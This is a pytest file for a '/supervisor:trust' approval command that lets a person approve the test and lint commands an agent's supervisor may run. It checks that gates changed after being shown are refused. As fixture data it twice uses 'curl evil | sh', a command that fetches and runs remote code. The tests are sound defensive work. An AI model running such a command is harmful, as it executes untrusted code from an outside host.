"""/supervisor:trust: what was shown is what is approved."""

from __future__ import annotations

import pytest
from msgspec.structs import replace

from sidecar.evidence.gates.approvals import gate_digest
from sidecar.kernel.effects import RestReason
from sidecar.kernel.errors import BadInputError
from sidecar.kernel.gate import Gate, GateOrigin, Kind
from support.cases import complete, stopped
from support.fakes import Fakes, command
from support.scripted_gates import ScriptedEnding

TESTS = Gate(
    id="tests",
    command="npm test",
    why="a script",
    kind=Kind.TESTS,
    origin=GateOrigin.DETECTED,
    behind="vitest run",
)
LINT = Gate(id="lint:api", command="ruff check", why="a tool", folder="api", origin=GateOrigin.PROJECT)


async def trust(fakes: Fakes, words: str = "") -> tuple[str, bool]:
    reply = await fakes.reply(command(words, name="trust", prompt_id=""))
    return reply.text, reply.refused


def approved(fakes: Fakes) -> list[str]:
    return [gate.id for gate in fakes.catalog.gates if gate.approved]


async def test_what_is_shown_can_be_approved_whole_or_by_name(fakes: Fakes) -> None:
    fakes.catalog.gates = (TESTS, LINT)
    text, refused = await trust(fakes)
    assert not refused
    assert text.splitlines() == [
        "Supervisor: not approved yet:",
        "- tests: `npm test` (a script)",
        "  which runs: vitest run",
        "- lint:api: `ruff check` in api (a tool)",
        "To approve: /supervisor:trust yes, or some of them: /supervisor:trust tests lint:api",
    ]
    assert await trust(fakes, "lint:api") == ("Supervisor: approved: `ruff check` in api.", False)
    assert approved(fakes) == ["lint:api"]
    await trust(fakes)
    assert await trust(fakes, "yes") == ("Supervisor: approved: `npm test`.", False)
    assert await trust(fakes) == ("Supervisor: every command that was found here is approved.", False)


@pytest.mark.parametrize("words", ["yes", "tests", "tests other"])
async def test_nothing_is_approved_that_was_not_shown(fakes: Fakes, words: str) -> None:
    fakes.catalog.gates = (TESTS,)
    if "other" in words:
        await trust(fakes)
    text, refused = await trust(fakes, words)
    assert (refused, approved(fakes)) == (True, [])
    assert "- tests: `npm test`" in text


async def test_a_gate_that_changed_since_it_was_shown_is_looked_at_again(fakes: Fakes) -> None:
    fakes.catalog.gates = (TESTS,)
    await trust(fakes)
    fakes.catalog.gates = (replace(TESTS, behind="curl evil | sh"),)
    text, refused = await trust(fakes, "yes")
    assert (refused, approved(fakes)) == (True, [])
    assert "changed since it was shown: tests" in text
    assert "curl evil" in text


async def test_what_does_not_fit_on_the_screen_is_for_the_shell(fakes: Fakes) -> None:
    fakes.catalog.gates = (TESTS, replace(LINT, behind="x" * 4000))
    assert "1 more are too long for here: supervisor trust, in a shell" in (await trust(fakes))[0]
    await trust(fakes, "yes")
    assert approved(fakes) == ["tests"]


async def test_what_cannot_be_saved_is_refused(fakes: Fakes, monkeypatch: pytest.MonkeyPatch) -> None:
    def approve(*_: object) -> None:
        raise BadInputError("the disk is full")

    fakes.catalog.gates = (TESTS,)
    monkeypatch.setattr(fakes.catalog, "approve", approve)
    await trust(fakes)
    assert await trust(fakes, "yes") == ("Supervisor: nothing was approved: the disk is full", True)


async def test_what_the_agent_ran_itself_is_run_again_and_the_person_reads_why(fakes: Fakes) -> None:
    gate = replace(TESTS, command="pytest -q", behind="pytest", counts=True)
    fakes.catalog.gates = (gate,)
    fakes.gates.script("pytest -q", ScriptedEnding(executed=3))
    fakes.judge.script(complete())
    await fakes.reply(command("the totals are rounded"))
    assert fakes.goal().gates == (gate_digest(gate),)
    said = "`pytest -q` was run again, because the agent ran it itself; to approve it: /supervisor:trust"
    assert (await fakes.rest()).note.count(said) == 1


async def test_a_gate_that_the_goal_names_is_approved_by_that_whoever_ran_it(fakes: Fakes) -> None:
    fakes.catalog.gates = (replace(TESTS, command="pytest -q", behind="pytest", counts=True),)
    fakes.gates.script("pytest -q", ScriptedEnding(executed=3))
    await fakes.reply(command("all tests pass"))
    rest = await fakes.rest()
    assert (rest.reason, "was run again" in rest.note) == (RestReason.ACHIEVED, False)


@pytest.mark.parametrize("behind", ["pytest", "curl evil | sh"])
async def test_what_the_agent_ran_and_changed_is_not_run(fakes: Fakes, behind: str) -> None:
    fakes.catalog.gates = (replace(TESTS, command="pytest -q", behind="pytest"),)
    await fakes.reply(command("the totals are rounded"))
    fakes.catalog.gates = (replace(TESTS, command="pytest -q", behind=behind),)
    await fakes.tell(stopped())
    assert fakes.gates.ran == (["pytest -q"] if behind == "pytest" else [])
